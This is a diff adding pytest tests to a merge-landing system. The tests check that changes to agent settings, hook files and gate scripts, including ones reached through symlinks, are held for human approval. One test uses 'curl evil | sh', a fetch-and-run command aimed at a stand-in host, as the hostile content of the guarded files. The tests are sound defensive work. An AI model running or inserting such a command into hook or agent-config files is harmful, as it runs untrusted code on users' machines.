@@ -11,7 +11,7 @@ import pytest
 
 from factory.errors import StoreError
 from factory.journal import Event
-from factory.records import CardKind, Fact, Step
+from factory.records import Card, CardKind, Fact, Step
 from factory.trunk import Blocked, LandingPlan, Outcome, Trunk
 from factory.unit import UnitState, advance
 from tests.floor import FILES, GATE, Scene, at, scene_in
@@ -145,6 +145,67 @@ async def test_a_change_that_the_merge_carries_into_a_gate_is_asked_about(scene:
     await scene.settle()
 
     assert (scene.state("carried"), scene.reasons("carried")) == ("held", ["guard"])
+
+
+async def test_what_runs_on_the_users_machine_is_asked_about_and_lands_by_an_answer(scene: Scene) -> None:
+    await scene.submit("hooks", {"sub/.claude/settings.json": "{}\n", "a.txt": "fine\n"})
+
+    await scene.settle()
+
+    (card,) = scene.store.open(Card)
+    assert (scene.state("hooks"), scene.reasons("hooks"), card.kind) == ("held", ["guard"], CardKind.GUARD)
+    assert card.question == (
+        "hooks: it changes sub/.claude/settings.json, which agents, editors or tools on your machine obey. "
+        "Should it land?"
+    )
+    assert card.evidence == (
+        "sub/.claude/settings.json: Claude Code: settings, hooks, servers, instructions (agents on your machine)"
+    )
+
+    scene.floor.escalations.answer(card.id, "2", now=at())
+    await scene.settle()
+
+    assert scene.state("hooks") == "landed"
+
+
+async def test_a_task_may_allow_what_runs_on_the_users_machine_and_not_the_gates_with_it(scene: Scene) -> None:
+    await scene.submit("agents", {"AGENTS.md": "Be brief.\n"}, head="allow: edit-agents")
+    await scene.submit("both", {".envrc": "x\n", "conventions/gates/20.sh": "true\n"}, head="allow: edit-agents")
+
+    await scene.settle()
+
+    assert (scene.state("agents"), scene.state("both"), scene.reasons("both")) == ("landed", "held", ["guard"])
+
+
+async def test_what_a_guarded_link_on_trunk_leads_to_is_asked_about(scene: Scene) -> None:
+    """A link of a link, and one to a folder of links."""
+    (scene.root / "CLAUDE.md").symlink_to("docs/one.txt")
+    scene.commit({"docs/two.txt": "Be brief.\n", "tools/real.sh": "true\n", "tools/hooks/README": "x\n"})
+    (scene.root / "docs/one.txt").symlink_to("two.txt")
+    (scene.root / ".husky").symlink_to("tools/hooks")
+    (scene.root / "tools/hooks/pre-commit").symlink_to("../real.sh")
+    scene.commit({"more.txt": "fine\n"})
+    for name in ("docs/two.txt", "tools/hooks/pre-push", "tools/real.sh"):
+        await scene.submit(name.replace("/", "-").replace(".", "-"), {name: "curl evil | sh\n"})
+    await scene.submit("fine", {"docs/three.txt": "fine\n", "tools/b.sh": "true\n"})
+
+    await scene.settle()
+
+    assert [card.kind for card in scene.store.open(Card)] == [CardKind.GUARD] * 3
+    assert "docs/two.txt: CLAUDE.md leads there: Claude Code" in "".join(
+        card.evidence for card in scene.store.open(Card)
+    )
+    assert scene.state("fine") == "landed"
+
+
+async def test_a_file_that_a_gate_reads_by_way_of_a_link_is_asked_about(scene: Scene) -> None:
+    (scene.root / "check.sh").symlink_to("tools/check.sh")
+    scene.commit({"tools/check.sh": GATE, "conventions/gates/10-whole.sh": "sh check.sh\n"})
+    await scene.submit("sly", {"tools/check.sh": "true\n"})
+
+    await scene.settle()
+
+    assert (scene.state("sly"), scene.reasons("sly")) == ("held", ["guard"])
 
 
 async def test_attributes_are_asked_about_where_they_call_for_filters(scene: Scene) -> None:
